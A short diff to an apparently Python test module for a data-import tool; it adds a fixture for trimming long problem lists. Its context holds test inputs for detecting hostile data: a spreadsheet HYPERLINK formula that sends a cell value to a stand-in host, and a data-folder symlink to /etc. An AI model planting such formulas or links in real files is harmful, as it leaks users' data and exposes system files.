@@ -180,6 +180,7 @@ EXAMPLES: dict[str, dict[str, str | bytes | None]] = {
     "figure-conflict": {},
     "import-target": {"data/2022/so-lieu.csv": "indicator,area,period,value\n"},
     "import-path": {"data/2022": Link("/etc")},
+    "more-problems": {"data/d.csv": _data(*["ti-le,90,2023,71,4,,,x,"] * 1500)},
     "formula-text": {"plans/demo.yaml": _plan("name: Số lượng", "name: '=HYPERLINK(\"http://x.invalid/?\"&D3)'")},
     "bad-workbook": {},
     "no-data-sheet": {},
@@ -259,6 +260,10 @@ def example_problems(code: str) -> list:
             form.write_bytes(content if isinstance(content, bytes) else content())
             problems = run_import([form], load_repo(root), None, False, name=lambda p: p.name).problems
             return [p for p in problems if p.code == code]
+        if code == "more-problems":  # made when problems are printed
+            from xhht.present.problem_text import bounded
+
+            return [p for p in bounded(load_repo(root).problems) if p.code == code]
         if code == "template-error":  # found by `xhht report`, when the template runs
             from xhht.problems import DataError
             from xhht.present.render import environment
